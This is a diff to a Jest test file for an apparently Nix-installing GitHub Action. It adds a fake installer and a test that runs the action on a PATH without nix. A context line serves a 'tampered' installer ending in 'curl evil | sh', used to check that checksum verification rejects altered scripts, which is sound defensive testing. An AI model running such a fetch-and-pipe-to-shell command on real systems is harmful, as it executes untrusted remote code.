@@ -5,14 +5,19 @@
 import { afterAll, beforeAll, describe, expect, it } from '@jest/globals'
 import { createHash } from 'node:crypto'
 import { createServer, type Server } from 'node:http'
-import { mkdtemp, readFile, rm } from 'node:fs/promises'
+import { mkdir, mkdtemp, readdir, readFile, rm, symlink } from 'node:fs/promises'
 import type { AddressInfo } from 'node:net'
 import { tmpdir } from 'node:os'
 import { join } from 'node:path'
 import { fetchInstaller, installNix } from '../../src/install.js'
+import { images, runAction } from '../helpers/action.js'
+import { makeFixtureRepo, stackEnv } from '../helpers/fixture.js'
 
 const script = '#!/bin/sh\necho "installer ran with: $*" > "$NCA_INSTALL_MARKER"\n'
 const sha256 = createHash('sha256').update(script).digest('hex')
+// Stands in for Nix's installer on a machine that already has Nix: it puts the machine's nix into the
+// single-user profile, where a real single-user install leaves it.
+const fakeInstaller = '#!/bin/sh\nset -e\nmkdir -p "$HOME/.nix-profile/bin"\nfor f in /usr/bin/nix*; do ln -sf "$f" "$HOME/.nix-profile/bin/"; done\n'
 let server: Server
 let base: string
 let requests = 0
@@ -26,6 +31,7 @@ beforeAll(async () => {
   server = createServer((req, res) => {
     requests++
     if (req.url === '/nix/install') res.end(script)
+    else if (req.url === '/nix/fake-install') res.end(fakeInstaller)
     else if (req.url === '/nix/tampered') res.end(script + 'curl evil | sh\n')
     else res.writeHead(404).end()
   })
@@ -56,5 +62,28 @@ describe('installing Nix when it is missing', () => {
     const path = await fetchInstaller({ url: `${base}/nix/install`, sha256 }, log)
     expect(requests).toBe(before)
     expect(path.startsWith(process.env.RUNNER_TOOL_CACHE!)).toBe(true)
+  })
+})
+
+describe('the action on a runner without nix', () => {
+  it('installs Nix through the pinned installer, then builds, loads and tests', async () => {
+    // A PATH with every program of this machine but nix.
+    const bin = join(dir, 'bin')
+    await mkdir(bin)
+    for (const d of ['/usr/local/bin', '/usr/bin', '/bin', '/usr/sbin', '/sbin']) {
+      for (const name of await readdir(d).catch(() => [] as string[])) {
+        if (!name.startsWith('nix')) await symlink(join(d, name), join(bin, name)).catch(() => undefined)
+      }
+    }
+    const home = join(dir, 'home')
+    const run = await runAction({
+      cwd: await makeFixtureRepo(),
+      inputs: { container: 'greetContainer', architectures: 'x86_64-linux', 'nix-installer-url': `${base}/nix/fake-install`, 'nix-installer-sha256': createHash('sha256').update(fakeInstaller).digest('hex') },
+      env: { PATH: bin, HOME: home, NIX_CONFIG: stackEnv().NIX_CONFIG },
+    })
+    expect(run.errors).toEqual([])
+    expect(run.log).toContain(`downloading the nix installer from ${base}/nix/fake-install`)
+    expect(run.log).toContain(`nix 2.8.0 at ${home}/.nix-profile/bin/nix`)
+    expect(images(run)[0].test).toBe('passed')
   })
 })
